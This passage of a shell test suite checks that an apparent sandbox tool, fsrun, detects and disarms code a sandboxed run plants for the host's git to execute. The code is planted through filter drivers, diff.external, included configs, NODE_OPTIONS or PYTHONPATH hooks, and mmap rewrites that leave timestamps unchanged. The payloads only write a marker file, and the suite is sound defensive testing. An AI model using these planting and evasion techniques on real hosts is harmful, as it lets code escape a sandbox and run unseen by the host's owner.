  host_args >/dev/null
  mapfile -t args < <(host_args)
  [ "$(printf '%s|' "${args[@]}")" = "-c|filter.nbstripout.clean=|-c|filter.nbstripout.smudge=|-c|filter.nbstripout.process=|-c|filter.nbstripout.required=false|" ]
  as_owner env HOME="$DIR/home" GIT_CONFIG_NOSYSTEM=1 git -C "$WT" "${args[@]}" \
    -c core.hooksPath=/dev/null add -A
  [ ! -e "$MARKER" ]
  hgit -C "$WT" reset -q
  as_owner env HOME="$DIR/home" GIT_CONFIG_NOSYSTEM=1 git -C "$WT" -c core.hooksPath=/dev/null add -A
  [ "$(cat "$MARKER")" = ran ]
}

@test "sandbox-git: with nbstripout installed --global, a run planting nbstripout.py is reported, and hostGitArgs disarm it (root)" {
  route_python_global root
}

@test "sandbox-git: with nbstripout installed --global, a run planting nbstripout.py is reported, and hostGitArgs disarm it (ordinary user)" {
  route_python_global user
}

# host_args: the hostGitArgs fsrun's last run said on stderr (root and user alike), one word a line;
# nothing when it said none. As root its --json result must say the same; so must its audit event.
host_args() {
  local said
  said=$(sed -n 's/^fsrun: warning: sandbox: .*; hostGitArgs: //p' "$DIR/stderr")
  [ -z "$said" ] || jq -r '.[]' <<<"$said"
  [ -z "$said" ] || [ "$(jq -cs 'map(select(.event == "sandbox:tamper")) | last | .hostGitArgs' \
    "$DIR/audit.jsonl")" = "$said" ]
  if [ "$OWNER" = root ]; then
    [ "$(jq -c .hostGitArgs <<<"$result")" = "${said:-[]}" ]
  fi
}

# route_disarm OWNER (review20 B, the host side): a run that plants nbstripout.py (for nbstripout's
# own `"/usr/bin/python3" -m nbstripout` filter) and rewrites diff.external's script gets the
# options that disarm both (hostGitArgs); with them the host's `status`, `diff`, `add -A` and
# `commit` succeed and run nothing the run planted; a plain `add -A` then runs the planted module
# (the control). A run that changes nothing such has none.
route_disarm() {
  make_repo "$1"
  [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
  hgit -C "$REPO" config filter.nbstripout.clean '"/usr/bin/python3" -m nbstripout'
  hgit -C "$REPO" config diff.external ./d.sh
  as_owner sh -c 'cd "$1" && echo "*.ipynb filter=nbstripout" >.gitattributes && echo "{}" >a.ipynb &&
    printf "#!/bin/sh\necho ran >>%s\n" "$2" >d.sh && chmod +x d.sh' sh "$WT" "$MARKER"
  hgit -C "$WT" -c core.hooksPath=/dev/null add -A
  hgit -C "$WT" -c core.hooksPath=/dev/null commit -qm "nbstripout, d.sh"
  sbx -- 'echo two >unrelated.txt'
  host_args >/dev/null
  [ -z "$(host_args)" ]
  sbx -- "printf 'import sys\\nopen(\"$MARKER\", \"a\").write(\"ran\\\\n\")\\nsys.stdout.write(sys.stdin.read())\\n' >nbstripout.py && echo '{ }' >a.ipynb && echo 'echo ran >>$MARKER' >>d.sh"
  local args
  host_args >/dev/null
  mapfile -t args < <(host_args)
  [ "$(printf '%s|' "${args[@]}")" = "-c|filter.nbstripout.clean=|-c|filter.nbstripout.smudge=|-c|filter.nbstripout.process=|-c|filter.nbstripout.required=false|-c|diff.external=f() { [ \$# -lt 7 ] || git --no-pager diff --no-index --no-ext-diff --no-textconv -- \"\$2\" \"\$5\"; [ \$? -le 1 ]; }; f|" ]
  hgit -C "$WT" "${args[@]}" status --short
  # git hands an external diff temporary files (in TMPDIR: the owner's own here)
  TMPDIR=$DIR/home hgit -C "$WT" "${args[@]}" diff >"$DIR/diff"
  grep -qxF '+{ }' "$DIR/diff"
  hgit -C "$WT" "${args[@]}" add -A
  hgit -C "$WT" "${args[@]}" -c core.hooksPath=/dev/null commit -qm "the run's"
  [ ! -e "$MARKER" ]
  as_owner sh -c 'echo "{  }" >"$1/a.ipynb"' sh "$WT"
  hgit -C "$WT" add -A
  [ "$(cat "$MARKER")" = ran ]
}

@test "sandbox-git: a run planting what a driver runs gets hostGitArgs, under which the host's git runs nothing of it (root)" {
  route_disarm root
}

@test "sandbox-git: a run planting what a driver runs gets hostGitArgs, under which the host's git runs nothing of it (ordinary user)" {
  route_disarm user
}

# filter_x_named_and_disarmed ENTRY: the runs named ENTRY alone; hostGitArgs disarm filter x, so the
# host's `add -A` with them runs nothing of a.txt's filter, and a plain one runs it (the control)
filter_x_named_and_disarmed() {
  [ "$(config_tamper)" = "$(jq -cn --arg e "$1" '[$e]')" ]
  mapfile -t args < <(host_args)
  [[ " ${args[*]} " == *" filter.x.clean= "* ]]
  hgit -C "$WT" "${args[@]}" -c core.fsmonitor=false -c core.hooksPath=/dev/null add -A
  [ ! -e "$MARKER" ]
  as_owner sh -c 'echo three >>"$1/a.txt"' sh "$WT"
  hgit -C "$WT" add -A
  # a.txt's filter (a racily clean file git hashes again may add a line)
  grep -qx ran "$MARKER"
}

# dir_on_tmpfs: this test's $DIR (repository, state root, marker) on a tmpfs: /dev/shm (/tmp is a
# disk on some hosts and a tmpfs on others)
dir_on_tmpfs() {
  rm -rf --one-file-system "$DIR"
  DIR=$(mktemp -d /dev/shm/fsrun-sbxgit.XXXXXX)
  chmod 755 "$DIR"
  [ "$(stat -f -c %T "$DIR")" = tmpfs ] || skip "/dev/shm is no tmpfs here"
  REPO=$DIR/repo WT=$DIR/repo/.worktrees/task OTHER=$DIR/repo/.worktrees/other MARKER=$DIR/marker
  echo '{}' >"$DIR/policy.json"
}

# MMAP_WRITE FILE TEXT: TEXT written over FILE's first bytes through a shared mapping, read first:
# on a tmpfs the page is then mapped writable, and the write moves neither mtime nor ctime
MMAP_WRITE='import mmap, os, sys
fd = os.open(sys.argv[1], os.O_RDWR)
m = mmap.mmap(fd, 0)
new = sys.argv[2].encode()
_ = m[0:len(new)]
m[0:len(new)] = new
m.close()'

# route_tmpfs_mmap OWNER driver|include (review24 B0): on a tmpfs worktree a committed file over
# 64 KiB that the config has the host's git run (a 70 KB filter driver) or read (an 88 KB included
# config defining the filter) is rewritten through a mapping after a read: same size, inode, mtime
# and ctime. The content is hashed whole there, so the run is reported by the entry and the filter
# disarmed in hostGitArgs; the host's `add -A` with them runs nothing, a plain one runs the payload.
route_tmpfs_mmap() {
  local pad entry payload
  dir_on_tmpfs
  make_repo "$1"
  [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
  pad=$(head -c "$([ "$2" = driver ] && echo 70000 || echo 88000)" /dev/zero | tr '\0' '#')
  if [ "$2" = driver ]; then
    as_owner sh -c 'mkdir "$1/tools" && printf "#!/bin/sh\ncat\nexit 0\n%s\n" "$2" >"$1/tools/clean" &&
      chmod +x "$1/tools/clean"' sh "$WT" "$pad"
    hgit -C "$REPO" config filter.x.clean ./tools/clean
    entry=config:filter.x.clean=./tools/clean
    payload=$(printf '#!/bin/sh\necho ran >>%s\ncat\nexit 0\n' "$MARKER")
    set -- "$1" tools/clean
  else
    as_owner sh -c 'printf "[filter \"x\"]\n\tclean = cat\n%s\n" "$2" >"$1/cfg"' sh "$WT" "$pad"
    hgit -C "$REPO" config include.path "$WT/cfg"
    entry=config:include.path=$WT/cfg
    payload=$(printf '[filter "x"]\n\tclean = echo ran >>%s; cat\n' "$MARKER")
    set -- "$1" cfg
  fi
  as_owner sh -c 'cd "$1" && echo "*.txt filter=x" >.gitattributes && echo one >a.txt' sh "$WT"
  hgit -C "$WT" add -A
  hgit -C "$WT" commit -qm tools
  sbx -- "python3 -c '$MMAP_WRITE' $2 '$payload
' && echo two >>a.txt"
  [ "$(head -c "${#payload}" "$WT/$2")" = "$payload" ]
  filter_x_named_and_disarmed "$entry"
}

@test "sandbox-git: a 70 KB driver rewritten through a mapping on a tmpfs worktree is reported and disarmed (root)" {
  route_tmpfs_mmap root driver
}

@test "sandbox-git: a 70 KB driver rewritten through a mapping on a tmpfs worktree is reported and disarmed (ordinary user)" {
  route_tmpfs_mmap user driver
}

@test "sandbox-git: an 88 KB included config rewritten through a mapping on a tmpfs worktree is reported and disarmed (root)" {
  route_tmpfs_mmap root include
}

@test "sandbox-git: an 88 KB included config rewritten through a mapping on a tmpfs worktree is reported and disarmed (ordinary user)" {
  route_tmpfs_mmap user include
}

# route_tmpfs_over_budget OWNER: on a tmpfs worktree a driver over the 16 MiB fsrun reads a pointer
# cannot be told unchanged: a run that writes only an unrelated file still names it, and
# hostGitArgs disarms it (never "unchanged"); a 70 KB driver left alone is not named.
route_tmpfs_over_budget() {
  dir_on_tmpfs
  make_repo "$1"
  as_owner sh -c 'mkdir "$1/big" "$1/tools" && { printf "#!/bin/sh\ncat\n"; head -c 17000000 /dev/zero |
    tr "\0" "#"; echo; } >"$1/big/clean" && head -c 70000 "$1/big/clean" >"$1/tools/small" &&
    chmod +x "$1/big/clean" "$1/tools/small"' sh "$WT"
  hgit -C "$REPO" config filter.big.clean ./big/clean
  hgit -C "$REPO" config filter.small.clean ./tools/small
  sbx -- 'echo two >unrelated.txt'
  [ "$(config_tamper)" = '["config:filter.big.clean=./big/clean"]' ]
  mapfile -t args < <(host_args)
  [[ " ${args[*]} " == *" filter.big.clean= "* ]]
  [[ " ${args[*]} " != *" filter.small.clean= "* ]]
}

@test "sandbox-git: a driver over 16 MiB on a tmpfs worktree is named on every run, never taken as unchanged (root)" {
  route_tmpfs_over_budget root
}

@test "sandbox-git: a driver over 16 MiB on a tmpfs worktree is named on every run, never taken as unchanged (ordinary user)" {
  route_tmpfs_over_budget user
}

# filter_rewrite_named CMD FILE TEXT: filter x's clean is CMD on *.txt; a run writing an unrelated
# file reports nothing; a run writing TEXT to FILE (and a.txt) names the filter, and the host's
# `add -A` with hostGitArgs runs nothing, a plain one does (filter_x_named_and_disarmed)
filter_rewrite_named() {
  hgit -C "$REPO" config filter.x.clean "$1"
  as_owner sh -c 'cd "$1" && echo "*.txt filter=x" >.gitattributes && echo one >a.txt' sh "$WT"
  sbx -- 'echo two >unrelated'
  [ "$(config_tamper)" = '[]' ]
  sbx -- "printf '%s\n' '$3' >$2 && echo two >>a.txt"
  filter_x_named_and_disarmed "config:filter.x.clean=$1"
}

# route_script_loads OWNER sh|py (review24 N1): a driver that runs a worktree script which loads
# another file beside it (`sh tools/clean.sh` sourcing `. tools/lib.sh`; `python3 tools/clean.py`
# putting its own dir on sys.path and importing `filt.core`, a package's module). The script's dir
# is watched with it: a run writing an unrelated file reports nothing; a run rewriting the loaded
# file names the filter, and the host's `add -A` with hostGitArgs runs nothing, a plain one does.
route_script_loads() {
  local cmd
  make_repo "$1"
  if [ "$2" = sh ]; then
    cmd='sh tools/clean.sh'
    as_owner sh -c 'mkdir "$1/tools" && printf ". tools/lib.sh\ncat\n" >"$1/tools/clean.sh" &&
      echo ": lib" >"$1/tools/lib.sh"' sh "$WT"
    set -- "$1" tools/lib.sh "echo ran >>$MARKER"
  else
    [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
    cmd='python3 tools/clean.py'
    as_owner sh -c 'mkdir -p "$1/tools/filt" && : >"$1/tools/filt/__init__.py" &&
      printf "import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nfrom filt import core\nsys.stdout.write(sys.stdin.read())\n" >"$1/tools/clean.py" &&
      echo "x = 1" >"$1/tools/filt/core.py"' sh "$WT"
    set -- "$1" tools/filt/core.py "open(\"$MARKER\", \"a\").write(\"ran\\n\")"
  fi
  filter_rewrite_named "$cmd" "$2" "$3"
}

@test "sandbox-git: a run rewriting what a driver's worktree script sources beside it is reported and disarmed (root)" {
  route_script_loads root sh
}

@test "sandbox-git: a run rewriting what a driver's worktree script sources beside it is reported and disarmed (ordinary user)" {
  route_script_loads user sh
}

@test "sandbox-git: a run rewriting a module a Python driver imports from a package beside it is reported and disarmed (root)" {
  route_script_loads root py
}

@test "sandbox-git: a run rewriting a module a Python driver imports from a package beside it is reported and disarmed (ordinary user)" {
  route_script_loads user py
}

# route_attached_value OWNER node|awk|perl (review26 D3 c): a driver whose option carries its
# file attached (`node --require=./hook.js`, `awk -ftools/x.awk`, `perl -Itools -MFilt`): that file
# (and its dir) is watched as a word is. A run writing an unrelated file reports nothing; a run
# rewriting it names the filter, and the host's `add -A` with hostGitArgs runs nothing, a plain one
# runs the payload.
route_attached_value() {
  local cmd
  make_repo "$1"
  case $2 in
  node)
    command -v node >/dev/null || skip "needs node"
    cmd='node --require=./hook.js clean.js'
    as_owner sh -c 'cd "$1" && echo "// hook" >hook.js &&
      echo "process.stdin.pipe(process.stdout)" >clean.js' sh "$WT"
    set -- "$1" hook.js "require(\"fs\").appendFileSync(\"$MARKER\", \"ran\\n\")"
    ;;
  awk)
    cmd='awk -ftools/x.awk'
    as_owner sh -c 'mkdir "$1/tools" && echo "{ print }" >"$1/tools/x.awk"' sh "$WT"
    set -- "$1" tools/x.awk "BEGIN { print \"ran\" >>\"$MARKER\" } { print }"
    ;;
  perl)
    cmd='perl -Itools -MFilt -pe 1'
    as_owner sh -c 'mkdir "$1/tools" && echo "package Filt; 1;" >"$1/tools/Filt.pm"' sh "$WT"
    set -- "$1" tools/Filt.pm "package Filt; open(my \$f, \">>$MARKER\"); print \$f \"ran\\n\"; 1;"
    ;;
  esac
  filter_rewrite_named "$cmd" "$2" "$3"
}

@test "sandbox-git: a driver's file given attached to an option (--require=./hook.js) is watched and disarmed (root)" {
  route_attached_value root node
}

@test "sandbox-git: a driver's file given attached to an option (--require=./hook.js) is watched and disarmed (ordinary user)" {
  route_attached_value user node
}

@test "sandbox-git: a driver's file given attached to a short option (-ftools/x.awk) is watched and disarmed (root)" {
  route_attached_value root awk
}

@test "sandbox-git: a driver's file given attached to a short option (-ftools/x.awk) is watched and disarmed (ordinary user)" {
  route_attached_value user awk
}

@test "sandbox-git: a driver's file given attached to a short option (-Itools -MFilt) is watched and disarmed (root)" {
  route_attached_value root perl
}

@test "sandbox-git: a driver's file given attached to a short option (-Itools -MFilt) is watched and disarmed (ordinary user)" {
  route_attached_value user perl
}

# route_node_resolved OWNER (review26 D3 a): `node clean` runs a top-level `clean.js` (node's
# resolution of a name without its extension), which a run rewrites: the filter is named, the
# host's `add -A` with hostGitArgs runs nothing, a plain one runs the payload. A run writing an
# unrelated file reports nothing.
route_node_resolved() {
  make_repo "$1"
  command -v node >/dev/null || skip "needs node"
  as_owner sh -c 'echo "process.stdin.pipe(process.stdout)" >"$1/clean.js"' sh "$WT"
  filter_rewrite_named 'node clean' clean.js \
    "require(\"fs\").appendFileSync(\"$MARKER\", \"ran\\n\"); process.stdin.pipe(process.stdout)"
}

@test "sandbox-git: a node driver's file named without its extension (node clean: clean.js) is watched and disarmed (root)" {
  route_node_resolved root
}

@test "sandbox-git: a node driver's file named without its extension (node clean: clean.js) is watched and disarmed (ordinary user)" {
  route_node_resolved user
}

# route_path_command OWNER empty|relative (review26 D3 b): `filter.x.clean = myfilt`, a command
# word without a `/`, found through an empty PATH entry (the top's `myfilt`) or a relative one
# (`./node_modules/.bin/myfilt`): git looks it up from the worktree's top, so a run rewriting it
# chose what the host's `add -A` runs. fsrun and the host's git share the PATH here, as they do
# under Fusion's adapter. The filter is named, `add -A` with hostGitArgs runs nothing, a plain one
# runs the payload; a run writing an unrelated file reports nothing.
route_path_command() {
  local dir=. entry=
  make_repo "$1"
  [ "$2" = empty ] || dir=node_modules/.bin entry=./node_modules/.bin
  as_owner sh -c 'mkdir -p "$1/$2" && printf "#!/bin/sh\ncat\n" >"$1/$2/myfilt" &&
    chmod 755 "$1/$2/myfilt"' sh "$WT" "$dir"
  # appended: the suite's own commands are found as before
  PATH=$PATH:$entry
  filter_rewrite_named myfilt "$dir/myfilt" "#!/bin/sh
echo ran >>$MARKER
cat"
}

@test "sandbox-git: a driver's command found through an empty PATH entry (the top's myfilt) is watched and disarmed (root)" {
  route_path_command root empty
}

@test "sandbox-git: a driver's command found through an empty PATH entry (the top's myfilt) is watched and disarmed (ordinary user)" {
  route_path_command user empty
}

@test "sandbox-git: a driver's command found through a relative PATH entry (./node_modules/.bin) is watched and disarmed (root)" {
  route_path_command root relative
}

@test "sandbox-git: a driver's command found through a relative PATH entry (./node_modules/.bin) is watched and disarmed (ordinary user)" {
  route_path_command user relative
}

# route_assignment OWNER py|node|perl (review26 D3 d, and the interpreters that add a suffix): a
# driver whose code comes from a `VAR=value` before its command (`PYTHONPATH=tools python3 -m
# filt`: tools/filt.py; `NODE_OPTIONS=--require=./x.js`) or from a name its interpreter adds a
# suffix to (`perl -I. -MFilt`: Filt.pm at the top). A run writing an unrelated file reports
# nothing; a run rewriting that file names the filter, the host's `add -A` with hostGitArgs runs
# nothing, a plain one runs the payload.
route_assignment() {
  local cmd
  make_repo "$1"
  case $2 in
  py)
    [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
    cmd='PYTHONPATH=tools /usr/bin/python3 -m filt'
    as_owner sh -c 'mkdir "$1/tools" && printf "import sys\nsys.stdout.write(sys.stdin.read())\n" \
      >"$1/tools/filt.py"' sh "$WT"
    set -- "$1" tools/filt.py "import sys
open(\"$MARKER\", \"a\").write(\"ran\\n\")
sys.stdout.write(sys.stdin.read())"
    ;;
  node)
    command -v node >/dev/null || skip "needs node"
    cmd='NODE_OPTIONS=--require=./x.js node f.js'
    as_owner sh -c 'cd "$1" && echo "// x" >x.js && echo "process.stdin.pipe(process.stdout)" >f.js' \
      sh "$WT"
    set -- "$1" x.js "require(\"fs\").appendFileSync(\"$MARKER\", \"ran\\n\")"
    ;;
  perl)
    cmd='perl -I. -MFilt -pe 1'
    as_owner sh -c 'echo "package Filt; 1;" >"$1/Filt.pm"' sh "$WT"
    set -- "$1" Filt.pm "package Filt; open(my \$f, \">>$MARKER\"); print \$f \"ran\\n\"; 1;"
    ;;
  esac
  filter_rewrite_named "$cmd" "$2" "$3"
}

@test "sandbox-git: a driver's PYTHONPATH=tools before its command is watched and disarmed (root)" {
  route_assignment root py
}

@test "sandbox-git: a driver's PYTHONPATH=tools before its command is watched and disarmed (ordinary user)" {
  route_assignment user py
}

@test "sandbox-git: a driver's NODE_OPTIONS=--require=./x.js before its command is watched and disarmed (root)" {
  route_assignment root node
}

@test "sandbox-git: a driver's NODE_OPTIONS=--require=./x.js before its command is watched and disarmed (ordinary user)" {
  route_assignment user node
}

@test "sandbox-git: a perl driver's -I. -MFilt (Filt.pm at the top) is watched and disarmed (root)" {
  route_assignment root perl
}

@test "sandbox-git: a perl driver's -I. -MFilt (Filt.pm at the top) is watched and disarmed (ordinary user)" {
  route_assignment user perl
}

# route_worktree_remove OWNER disarmed|cannot (review26 D4 a): the task worktree's committed
# filter script a run rewrote, and a.txt it made stat-dirty (git's status hashes it through the
# filter), removed from the main checkout. A plain `worktree remove` there runs `git status` inside
# the task worktree (its clean check), and with it the rewritten script (the control: it refuses,
# the tree being dirty, after running it). The documented removal runs nothing: `git <hostGitArgs>
# <safe line> worktree remove --force` when disarmed; when the run also made a repository of its
# own (cannot disarm), that line fails at once and removes nothing, and `git <safe line> worktree
# remove --force` removes it, running nothing either.
route_worktree_remove() {
  local plant=
  make_repo "$1"
  hgit -C "$REPO" config filter.x.clean 'sh tools/clean.sh'
  as_owner sh -c 'cd "$1" && mkdir tools && echo cat >tools/clean.sh &&
    echo "a.txt filter=x" >.gitattributes && echo one >a.txt' sh "$WT"
  hgit -C "$WT" add -A
  hgit -C "$WT" -c core.hooksPath=/dev/null commit -qm driver
  [ "$2" = disarmed ] || plant='git init -q sub && '
  sbx -- "$plant printf 'echo ran >>%s; cat\n' $MARKER >tools/clean.sh && touch -d 2001-01-01 a.txt"
  mapfile -t args < <(host_args)
  [[ " ${args[*]} " == *" filter.x.clean= "* ]]
  safe_git -C "$REPO" worktree remove "$WT" && false
  [ -d "$WT" ]
  grep -qx ran "$MARKER"
  rm "$MARKER"
  if [ "$2" = disarmed ]; then
    [[ " ${args[*]} " != *" core.abbrev=fsrun-cannot-disarm "* ]]
  else
    [ "${args[1]}" = core.abbrev=fsrun-cannot-disarm ]
    run safe_git -C "$REPO" "${args[@]}" worktree remove --force "$WT"
    [ "$status" -eq 128 ]
    [ -d "$WT" ]
    args=()
  fi
  safe_git -C "$REPO" "${args[@]}" worktree remove --force "$WT"
  [ ! -e "$WT" ]
  [ ! -e "$MARKER" ]
  [ "$(hgit -C "$REPO" worktree list | wc -l)" -eq 2 ]
}

@test "sandbox-git: the documented removal of a task's worktree from the main checkout runs nothing of the run's (root)" {
  route_worktree_remove root disarmed
}

@test "sandbox-git: the documented removal of a task's worktree from the main checkout runs nothing of the run's (ordinary user)" {
  route_worktree_remove user disarmed
}

@test "sandbox-git: a task worktree that cannot be disarmed is removed with the safe line and --force alone, running nothing (root)" {
  route_worktree_remove root cannot
}

@test "sandbox-git: a task worktree that cannot be disarmed is removed with the safe line and --force alone, running nothing (ordinary user)" {
  route_worktree_remove user cannot
}

# last_tamper: the last run's tamper list as it was reported (not sorted, not merged)
last_tamper() {
  jq -cs 'map(select(.event == "sandbox:tamper")) | last | .paths' "$DIR/audit.jsonl"
}

# route_many_nested OWNER (review25 C5): a run that makes 64 nested repositories (the walk's
# entries come first and the list holds 64) and rewrites the filter driver. The list still names
# the driver, says that it was cut (a standing `config:unread:` entry, first), and holds 64; its
# hostGitArgs cannot disarm (git fails at once) and have the driver's options; with them the host's
# `add` runs nothing, a plain one runs the driver.
route_many_nested() {
  local more='config:unread: (more tamper entries than fsrun reports)'
  make_repo "$1"
  as_owner sh -c 'cd "$1" && mkdir tools && printf "#!/bin/sh\ncat\n" >tools/clean &&
    chmod +x tools/clean && echo "*.txt filter=x" >.gitattributes && echo one >a.txt' sh "$WT"
  hgit -C "$REPO" config filter.x.clean ./tools/clean
  sbx -- "for i in \$(seq 1 64); do git init -q n\$i || exit 1; done &&
    printf '#!/bin/sh\necho ran >>$MARKER; cat\n' >tools/clean && echo two >>a.txt"
  last_tamper
  [ "$(last_tamper | jq length)" = 64 ]
  [ "$(last_tamper | jq -r '.[0]')" = "$more" ]
  last_tamper | jq -e 'index("config:filter.x.clean=./tools/clean") == 1'
  [ "$(last_tamper | jq '[.[] | select(test("^n[0-9]+/[.]git$"))] | length')" = 62 ]
  mapfile -t args < <(host_args)
  [ "${args[0]} ${args[1]}" = "-c core.abbrev=fsrun-cannot-disarm" ]
  [[ " ${args[*]} " == *" filter.x.clean= "* ]]
  run hgit -C "$WT" "${args[@]}" -c core.fsmonitor=false -c core.hooksPath=/dev/null add a.txt
  [ "$status" -ne 0 ]
  [ ! -e "$MARKER" ]
  as_owner sh -c 'echo three >>"$1/a.txt"' sh "$WT"
  hgit -C "$WT" add a.txt
  grep -qx ran "$MARKER"
}

@test "sandbox-git: a run making 64 nested repositories and rewriting the filter driver still names it; hostGitArgs cannot disarm (root)" {
  route_many_nested root
}

@test "sandbox-git: a run making 64 nested repositories and rewriting the filter driver still names it; hostGitArgs cannot disarm (ordinary user)" {
  route_many_nested user
}

# last_discarded: the last run's discarded list as it was reported
last_discarded() {
  jq -cs 'map(select(.event == "sandbox:tamper")) | last | .discarded' "$DIR/audit.jsonl"
}

# route_wide_names OWNER (session 25's left, the lists' bytes): a run whose names cost 6 bytes a
# character as JSON, 40 nested repositories and 40 files in the common dir's info/ (outside the
# allowlist) each named by 250 control characters (each list ~61 KB as JSON; at PATH_MAX, 64 such
# names were megabytes, past the adapter's buffer), beside a rewritten filter driver. Each list
# stays within fsrun's 32 KiB and says first that it was cut: tamper's standing `config:unread:`
# entry, the driver's entry next and hostGitArgs "cannot disarm"; discarded's own. Broken (no byte
# bound): 41 and 40 entries of ~61 KB each, neither said cut.
route_wide_names() {
  local more='config:unread: (more tamper entries than fsrun reports)' max=$((32 * 1024 + 64))
  make_repo "$1"
  as_owner sh -c 'cd "$1" && mkdir tools && printf "#!/bin/sh\ncat\n" >tools/clean &&
    chmod +x tools/clean && echo "*.txt filter=x" >.gitattributes && echo one >a.txt' sh "$WT"
  hgit -C "$REPO" config filter.x.clean ./tools/clean
  sbx -- "c=\$(printf '\\001'); s=; while [ \${#s} -lt 250 ]; do s=\$s\$c; done
    info=\$(git rev-parse --git-common-dir)/info; mkdir -p \"\$info\" || exit 1
    for i in \$(seq 10 49); do mkdir -p \"n\$i\$s/.git\" && echo x >\"\$info/f\$i\$s\" || exit 1; done
    printf '#!/bin/sh\necho ran >>$MARKER; cat\n' >tools/clean && echo two >>a.txt" >/dev/null
  echo "tamper: $(last_tamper | wc -c) bytes, $(last_tamper | jq length) entries"
  echo "discarded: $(last_discarded | wc -c) bytes, $(last_discarded | jq length) entries"
  [ "$(last_tamper | jq -r '.[0]')" = "$more" ]
  last_tamper | jq -e 'index("config:filter.x.clean=./tools/clean") == 1 and
    (.[2:] | length > 0 and all(test("^n[0-9]+\u0001+/[.]git$")))'
  [ "$(last_tamper | wc -c)" -le "$max" ]
  mapfile -t args < <(host_args)
  [ "${args[0]} ${args[1]}" = "-c core.abbrev=fsrun-cannot-disarm" ]
  [[ " ${args[*]} " == *" filter.x.clean= "* ]]
  [ "$(last_discarded | jq -r '.[0]')" = "(more left out than fsrun reports)" ]
  last_discarded | jq -e '.[1:] | length > 0 and all(test("^info/f[0-9]+\u0001+$"))'
  [ "$(last_discarded | wc -c)" -le "$max" ]
}

@test "sandbox-git: a run's tamper and discarded lists of names escaped 6 bytes a character stay within 32 KiB and say they were cut (root)" {
  route_wide_names root
}

@test "sandbox-git: a run's tamper and discarded lists of names escaped 6 bytes a character stay within 32 KiB and say they were cut (ordinary user)" {
  route_wide_names user
}

# route_wide_script_dir OWNER (review25 C6): the driver's script dir holds more than the digest's
# 4,096 entries (a committed `tools/data/` of 5,000 files beside `tools/lib/zz.sh`, which the
# script sources). What lies past the bound was never compared: the digest is unknown, so the
# driver is named on every run (an unrelated one too), and a run rewriting zz.sh is disarmed.
route_wide_script_dir() {
  make_repo "$1"
  as_owner sh -c 'cd "$1" && mkdir -p tools/lib tools/data &&
    printf ". tools/lib/zz.sh\nfilter\n" >tools/clean.sh && echo "filter() { cat; }" >tools/lib/zz.sh &&
    (cd tools/data && seq 1 5000 | xargs touch) && echo "*.txt filter=x" >.gitattributes &&
    echo one >a.txt' sh "$WT"
  hgit -C "$REPO" config filter.x.clean 'sh tools/clean.sh'
  sbx -- 'echo two >unrelated'
  [ "$(config_tamper)" = '["config:filter.x.clean=sh tools/clean.sh"]' ]
  sbx -- "echo 'filter() { echo ran >>$MARKER; cat; }' >tools/lib/zz.sh && echo two >>a.txt"
  last_tamper | jq -e 'index("config:filter.x.clean=sh tools/clean.sh") != null'
  filter_x_named_and_disarmed "config:filter.x.clean=sh tools/clean.sh"
}

@test "sandbox-git: a driver's script dir past the digest's 4,096 entries is named on every run, never taken as unchanged (root)" {
  route_wide_script_dir root
}

@test "sandbox-git: a driver's script dir past the digest's 4,096 entries is named on every run, never taken as unchanged (ordinary user)" {
  route_wide_script_dir user
}

# route_other_checkouts OWNER (review26 D6): a writablePaths entry that reaches another checkout of
# the worktree's repository (is or holds the main checkout or the other task's worktree) is refused:
# the command rewrote a driver's script there (`tamper: []`) and the host's git in that checkout
# ran it. `sandbox` exits 125 with one line naming the entry, `bundle` 1, nothing left behind; an
# entry in the worktree or beside the repository is accepted.
route_other_checkouts() {
  local entry ok=$DIR/beside
  make_repo "$1"
  as_owner mkdir -p "$REPO/tools" "$WT/cache" "$ok"
  for entry in "$REPO" "$OTHER" "$REPO/.worktrees"; do
    jq -n --arg w "$entry" '{writablePaths: [$w]}' >"$DIR/policy.json"
    run as_owner "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$WT" \
      -- sh -c 'echo planted >"$1/tools/clean.sh"' sh "$REPO"
    echo "$output"
    [ "$status" -eq 125 ]
    [ "${#lines[@]}" -eq 1 ]
    [[ $output == *"policy: writablePaths[0]: \`$entry\` reaches \`"*"\`, another checkout of the worktree's repository, "* ]]
    [ ! -e "$REPO/tools/clean.sh" ]
    run as_owner "$FSRUN" --root "$DIR/state" bundle --policy "$DIR/policy.json" --worktree "$WT" \
      --out "$DIR/bundle" -- true
    [ "$status" -eq 1 ]
    [[ $output == *"another checkout of the worktree's repository"* ]]
    [ ! -e "$DIR/bundle" ]
  done
  [ -z "$(ls -A "$DIR/state" 2>/dev/null)" ]
  jq -n --arg a "$WT/cache" --arg b "$ok" '{writablePaths: [$a, $b]}' >"$DIR/policy.json"
  as_owner "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$WT" \
    -- sh -c 'echo x >"$1/f" && echo y >"$2/f"' sh "$WT/cache" "$ok"
  [ "$(cat "$ok/f")" = x ] || [ "$(cat "$ok/f")" = y ]
}

@test "sandbox-git: writablePaths reaching another checkout of the repository are refused (root)" {
  route_other_checkouts root
}

@test "sandbox-git: writablePaths reaching another checkout of the repository are refused (ordinary user)" {
  route_other_checkouts user
}

# refused_entry ENTRY WORKTREE WHAT: a policy whose writablePaths is ENTRY is refused over WORKTREE
# by `sandbox` (125, one line naming writablePaths[0] and WHAT; the command never ran: no $DIR/ran)
# and by `bundle` (1, no bundle)
refused_entry() {
  jq -n --arg w "$1" '{writablePaths: [$w]}' >"$DIR/policy.json"
  run as_owner "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$2" \
    -- sh -c 'echo ran >"$1/ran"' sh "$DIR"
  echo "$output"
  [ "$status" -eq 125 ]
  [ "${#lines[@]}" -eq 1 ]
  [[ $output == *"policy: writablePaths[0]: \`$1\` "*"$3"* ]]
  [ ! -e "$DIR/ran" ]
  run as_owner "$FSRUN" --root "$DIR/state" bundle --policy "$DIR/policy.json" --worktree "$2" \
    --out "$DIR/bundle" -- true
  [ "$status" -eq 1 ]
  [[ $output == *"$3"* ]]
  [ ! -e "$DIR/bundle" ]
}

# route_common_dir_entries OWNER (review27 E8): an entry that is the repository's git dir or lies in
# it was bound read-write over the overlay the run's git writes through: the run moved `main` and
# the other task's branch and wrote info/attributes on the host, `tamper: []`, nothing left out.
